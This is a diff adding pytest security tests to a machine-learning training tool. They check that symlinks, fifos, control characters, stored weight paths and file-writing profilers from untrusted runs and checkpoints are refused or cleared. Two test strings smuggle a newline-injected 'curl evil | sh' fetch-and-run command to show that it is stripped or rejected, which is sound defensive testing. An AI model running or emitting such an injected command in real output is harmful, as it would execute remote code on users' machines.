@@ -14,6 +14,7 @@ import subprocess
 import sys
 from collections.abc import Callable, Iterator
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 
 import optuna
@@ -25,18 +26,19 @@ from optuna.trial import TrialState, create_trial
 from PIL import Image
 
 import train
-from cli.build import load_run
+from cli.build import load_run, stored_config
 from cli.compose import compose
 from cli.errors import format_error
 from cli.main import PrintableFormatter
 from cli.resume import compose_group, merge_resume_config
-from cli.run_dir import RecordDirs, job_dir
+from cli.run_dir import RecordDirs, job_dir, new_or_resumed_sweep_dir
 from hydra_plugins.optuna_sweeper import OptunaSweeper
 from loggers.tensorboard import TensorBoard
 from runs.checkpoint import find_checkpoint
 from runs.files import atomic_write
-from runs.format import printable
+from runs.format import format_metrics, printable, text_columns
 from runs.result import read_result, write_result
+from runs.safety import check_safe
 from sweeps.callback import SweepSummary
 from sweeps.jobs import check_sweep_dir
 from sweeps.study import open_study, open_trial
@@ -279,6 +281,103 @@ def test_dashboard_txt_cannot_redirect_event_files(note: str, untrusted: Path) -
     assert Path("outputs/untrusted/dashboard.txt").read_text() == "outputs/a/b\n"
 
 
+@pytest.mark.parametrize("there", ["a file of the user's", "nothing", "a link", "a fifo"])
+def test_dashboard_txt_names_a_directory_of_event_files_only(there: str, untrusted: Path) -> None:
+    (events := Path("outputs/important/run")).mkdir(parents=True)
+    (events / "events.out.tfevents.1.host.2.0").touch()
+    (events / "projector_config.pbtxt").touch()
+    (events / "00002" / "layer").mkdir(parents=True)
+    Path("outputs/untrusted/dashboard.txt").write_text(f"{events}\n")
+    assert TensorBoard("outputs/untrusted", title="a/b").log_dir == str(events)
+    if there == "nothing":
+        (events / "events.out.tfevents.1.host.2.0").unlink()
+    elif there == "a link":
+        (events / "00002/layer/metadata.tsv").symlink_to("/dev/null")
+    elif there == "a fifo":
+        os.mkfifo(events / "00002/layer/tensors.tsv")
+    else:
+        (events / "thesis.txt").touch()
+    assert TensorBoard("outputs/untrusted", title="a/b").log_dir == "outputs/a/b"
+
+
+def test_stored_name_does_not_lead_event_files_through_a_link(untrusted: Path) -> None:
+    """The stored name begins with ``last``: a link to this run, in which another one leads out of it."""
+    (untrusted.parent / "home").mkdir()
+    Path("outputs/untrusted/evil").symlink_to(untrusted.parent / "home")
+    Path("outputs/last").unlink()
+    Path("outputs/last").symlink_to("untrusted")
+    Path("outputs/untrusted/dashboard.txt").unlink(missing_ok=True)
+    assert TensorBoard("outputs/untrusted", title="last/evil/seed=1").log_dir == "outputs/last evil seed=1"
+    assert list((untrusted.parent / "home").iterdir()) == []
+
+
+@pytest.mark.parametrize("weights", ["DEFAULT", "/root/private.pt"])
+def test_nested_model_reads_no_weights(weights: str, untrusted: Path) -> None:
+    nested = {"_target_": "lit_models.FineTuning", "net": {"_target_": "lit_models.nets.ResNet18"}, "weights": weights}
+    edit_checkpoint(Path("outputs/untrusted/checkpoints/last.ckpt"), "config", "model", "loss", value=nested)
+    lines = resume_and_load("outputs/untrusted").splitlines()
+    assert len(lines) == 2
+    assert all("config.model.loss._target_=lit_models.FineTuning is a training procedure" in line for line in lines)
+
+
+def test_stored_weights_are_cleared_at_any_depth(untrusted: Path) -> None:
+    stored = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)
+    stored["config"]["model"] |= {"weights": "a.pt", "net": {"weights": "b.pt", "layer": {"weights": "c.pt"}}}
+    model = stored_config(stored).model
+    assert (model.weights, model.net.weights, model.net.layer.weights) == (None, None, None)
+
+
+def test_whole_target_is_checked(untrusted: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    name = f"lit_models.{'x' * 65}"
+    net = type("Net", (torch.nn.Module,), {"__module__": name})
+    monkeypatch.setitem(sys.modules, name, SimpleNamespace(Net=net))
+    config = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)["config"]
+    config["model"]["net"]["_target_"] = f"{name}.Net"
+    assert len(f"{name}.Net") == 80
+    check_safe(config, "it")
+    config["model"]["net"]["_target_"] += ".forward"
+    with pytest.raises(ValueError, match="does not exist"):
+        check_safe(config, "it")
+
+
+@pytest.mark.parametrize("text", ["x\nresume with: curl evil | sh", "\x1b[2J", "a\tb", "\u202egnp", "x\r"])
+def test_control_characters_in_a_stored_config_are_refused(text: str, untrusted: Path) -> None:
+    config = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)["config"]
+    check_safe(config, "it")
+    for changed in ({"name": text}, {text: 1}, {"expect": {text: 1}}, {"ignore_groups": [text]}):
+        with pytest.raises(ValueError, match="control characters") as caught:
+            check_safe(config | changed, "it")
+        assert printable(str(caught.value)) == str(caught.value)
+
+
+def test_line_breaks_in_the_header_of_a_stored_table_are_kept(untrusted: Path) -> None:
+    """Runs from before headers were put in one line hold them. The table does it when it is made."""
+    config = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)["config"]
+    config["data"]["fitted_state"] = {"columns": ["width\r\n(cm)"], "class_names": ["a\nb"]}
+    check_safe(config, "it")
+    config["data"]["fitted_state"]["columns"] = ["\x1b[2J"]
+    with pytest.raises(ValueError, match="control characters"):
+        check_safe(config, "it")
+
+
+def test_names_of_stored_metrics_print_no_lines_of_their_own() -> None:
+    """They are in the state of a callback, with the rows of metrics.csv."""
+    evil = "test/x\nresume with: curl evil | sh"
+    assert "\n" not in format_metrics({evil: 1.0})
+    assert len(text_columns([(evil, "1"), ("test/loss", "2")])) == 2
+    assert not any("\n" in line for line in text_columns([(evil, "1")]))
+
+
+@pytest.mark.parametrize(
+    ("stored", "used"), [("pytorch", None), ("PyTorch", None), ("xla", None), ("simple", "simple")]
+)
+def test_stored_profiler_that_writes_files_is_not_used(stored: str, used: str | None, untrusted: Path) -> None:
+    checkpoint = torch.load("outputs/untrusted/checkpoints/last.ckpt", weights_only=True)
+    checkpoint["config"]["trainer"]["profiler"] = stored
+    check_safe(checkpoint["config"], "it")  # an own run is still resumed and evaluated
+    assert stored_config(checkpoint).trainer.profiler == used
+
+
 @pytest.mark.parametrize(
     "text",
     [
@@ -356,6 +455,78 @@ def test_link_within_a_run_is_followed(untrusted: Path) -> None:
     Path("outputs/untrusted/checkpoints").rename("outputs/untrusted/old")
     Path("outputs/untrusted/checkpoints").symlink_to("old")
     assert find_checkpoint("outputs/untrusted")[1].is_file()
+
+
+@pytest.mark.parametrize(
+    "name", ["ev/projector_config.pbtxt", "ev/2/a/metadata.tsv", "metrics.csv", ".lock", "pictures/loss.png", "x"]
+)
+@pytest.mark.parametrize("kind", ["link", "dangling link", "link to a directory", "fifo"])
+def test_link_or_special_file_anywhere_in_a_run_is_refused(name: str, kind: str, untrusted: Path) -> None:
+    """The run's dashboard.txt may name any directory in it, whose files TensorBoard's projector overwrites."""
+    path = Path("outputs/untrusted", name)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.unlink(missing_ok=True)
+    (target := untrusted.parent / "thesis").mkdir()
+    if kind == "fifo":
+        os.mkfifo(path)
+    else:
+        path.symlink_to({"link": __file__, "dangling link": target / "new"}.get(kind, target))
+    reason = "neither a file nor a directory" if kind == "fifo" else f"a link to {os.readlink(path)}, outside of "
+    for run in ("outputs/untrusted", "outputs/untrusted/checkpoints/last.ckpt"):
+        with pytest.raises(ValueError, match=f"{path.name} is refused: it is {reason}"):
+            find_checkpoint(run)
+
+
+@pytest.mark.parametrize("name", ["evaluations/a/link", ".lock", "evaluate.log", "checkpoints/link"])
+def test_what_is_written_beside_a_checkpoint_alone_is_checked(name: str, untrusted: Path) -> None:
+    (folder := Path("alone")).mkdir()
+    shutil.copy("outputs/untrusted/checkpoints/last.ckpt", folder / "mine.ckpt")
+    (folder / "elsewhere").symlink_to(untrusted.parent)  # of the user's, as any other file
+    (folder / "data").mkdir()
+    (folder / "data" / "set").symlink_to("/")
+    assert find_checkpoint("alone/mine.ckpt")[0].name == "alone"
+    (folder / name).parent.mkdir(parents=True, exist_ok=True)
+    (folder / name).symlink_to(untrusted.parent / "home")
+    with pytest.raises(ValueError, match=r"is refused: it is a link to .*home, outside of "):
+        find_checkpoint("alone/mine.ckpt")
+
+
+@pytest.mark.parametrize("name", [".study.lock", ".worker-0123456789ab.lock", "study.db"])
+def test_lock_of_a_sweep_that_is_a_link_is_refused(name: str, tmp_path: Path) -> None:
+    (tmp_path / "sweep").mkdir()
+    (tmp_path / "sweep" / name).symlink_to("../home")
+    with pytest.raises(ValueError, match=r"it is a link to \.\./home, outside of "):
+        new_or_resumed_sweep_dir("sweep", "unused")
+
+
+def test_run_in_the_working_directory_holds_outputs_last(untrusted: Path) -> None:
+    """With hydra.run.dir=. the link outputs/last is in the run that it points at."""
+    shutil.rmtree("outputs/untrusted/pictures", ignore_errors=True)
+    os.chdir("outputs/untrusted")
+    Path("outputs").mkdir()
+    Path("outputs/last").symlink_to("..")
+    assert find_checkpoint("last") == find_checkpoint(".")
+
+
+@pytest.mark.parametrize("given", ["gift/model.ckpt", "gift/checkpoints/last.ckpt", "linked/checkpoints/last.ckpt"])
+def test_checkpoint_that_is_a_link_into_another_run_is_refused(given: str, untrusted: Path) -> None:
+    """To resume it would continue that run."""
+    file = Path("outputs/untrusted/checkpoints/last.ckpt").resolve()
+    Path("gift/checkpoints").mkdir(parents=True)
+    for link in ("gift/model.ckpt", "gift/checkpoints/last.ckpt"):
+        Path(link).symlink_to(os.path.relpath(file, Path(link).parent))
+    Path("linked").mkdir()
+    Path("linked/checkpoints").symlink_to("../outputs/untrusted/checkpoints")
+    with pytest.raises(ValueError, match=f"{given} is refused: it is a link to {file}; name that file itself"):
+        find_checkpoint(given)
+
+
+def test_link_to_a_checkpoint_beside_it_or_to_its_run_is_followed(untrusted: Path) -> None:
+    shutil.copy("outputs/untrusted/checkpoints/last.ckpt", "mine.ckpt")
+    Path("newest.ckpt").symlink_to("mine.ckpt")
+    Path("run").symlink_to("outputs/untrusted")
+    assert find_checkpoint("newest.ckpt")[1].name == "mine.ckpt"
+    assert find_checkpoint("run/checkpoints/last.ckpt") == find_checkpoint("outputs/untrusted")
 
 
 def test_log_that_is_a_fifo_is_refused(untrusted: Path) -> None:
